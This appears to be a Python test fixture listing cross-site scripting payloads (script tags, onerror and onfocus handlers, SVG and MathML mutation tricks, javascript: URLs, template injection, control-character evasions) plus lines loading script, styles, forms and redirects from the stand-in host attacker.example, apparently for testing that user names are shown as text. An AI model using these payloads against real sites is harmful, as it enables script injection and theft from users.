"""Texts that would run script, load something or change a page if a page did not show them as text.

A script calls `hostile()`. Markup has an element with the id "planted". A request goes to ATTACKER.
"""

from __future__ import annotations

ATTACKER = "http://attacker.example"
RUN = "window.hostile = () => { window.ranHostile = true; console.error('a hostile text ran as script'); return ''; };"
MARKUP = "#planted, [name=planted], [onfocus], [onmouseover]"

# Names of people and gyms may contain these.
LINES = (
    "<script id=planted>hostile()</script>",
    "<ScRiPt/x id=planted>hostile()</sCrIpT >",
    f"<script id=planted src={ATTACKER}/s.js></script>",
    "</script><script id=planted>hostile()</script>",
    "<scr<script id=planted>ipt>hostile()</scr</script>ipt>",
    "<img id=planted src=x: onerror=hostile()>",
    '"><img id=planted src=x: onerror=hostile()>',
    "'><img id=planted src=x: onerror=hostile()>",
    "<img id=planted src=x: onerror=hostile()//",
    "<IMG ID=planted SRC=x: OnErRoR=&#104;ostile()>",
    '" autofocus onfocus=hostile() onmouseover=hostile() x="',
    "' autofocus onfocus=hostile() x='",
    "<svg id=planted onload=hostile()>",
    "<svg><foreignObject><img id=planted src=x: onerror=hostile()></foreignObject></svg>",
    "<svg><a id=planted><animate attributeName=href values=javascript:hostile() /><text>x",
    "<math><mtext><table><mglyph><style><img id=planted src=x: onerror=hostile()>",
    "<![CDATA[<img id=planted src=x: onerror=hostile()>]]>",
    "<!--><img id=planted src=x: onerror=hostile()>-->",
    "<noscript><p title='</noscript><img id=planted src=x: onerror=hostile()>'>",
    "</textarea></title><img id=planted src=x: onerror=hostile()>",
    "<iframe id=planted srcdoc='<script>parent.hostile()</script>'></iframe>",
    "<iframe id=planted src=javascript:parent.hostile()></iframe>",
    "<object id=planted data=javascript:hostile()></object>",
    "<details id=planted open ontoggle=hostile()>x</details>",
    "javascript:hostile()",
    "JaVaScRiPt&colon;hostile()",
    "data:text/html,<script id=planted>parent.hostile()</script>",
    "<a id=planted href=javascript:hostile()>a link</a>",
    f"<style id=planted>*{{background:url({ATTACKER}/style)}}</style>",
    f"red;background:url({ATTACKER}/css)",
    f"<meta id=planted http-equiv=refresh content='0;url={ATTACKER}/refresh'>",
    f"<base id=planted href={ATTACKER}/>",
    f"<link id=planted rel=stylesheet href={ATTACKER}/link.css>",
    f"<form id=planted action={ATTACKER}/form><input autofocus onfocus=hostile()>",
    f"//{ATTACKER.removeprefix('http://')}/path",
    "{{constructor.constructor('hostile()')()}}",
    "{{_openBlock.constructor('hostile()')()}}",
    "<p id=planted v-html=hostile() :x=hostile() @click=hostile()>",
    "${hostile()}",
    "`+hostile()+`",
    "');hostile();//",
    '\\");hostile();//',
    "\\u003cimg id=planted src=x: onerror=hostile()\\u003e",
    "&lt;img id=planted src=x: onerror=hostile()&gt;",
    "<form id=app name=planted><input name=socket></form>",
    f"[link](javascript:hostile()) ![image]({ATTACKER}/markdown)",
    "__proto__",
)
# No name may contain these, but a log line or a mail may.
OTHERS = (
    "\u202e>()elitsoh=rorreno :x=crs detnalp=di gmi<",
    "\u2028hostile()\u2029//",
    "java\tscript:hostile()",
    "<scr\x00ipt id=planted>hostile()</scr\x00ipt>",
    "\x1b]8;;javascript:hostile()\x07link\x1b]8;;\x07",
    "<img id=planted src=x: onerror=hostile()>" * 100,
)
TEXTS = (*LINES, *OTHERS)
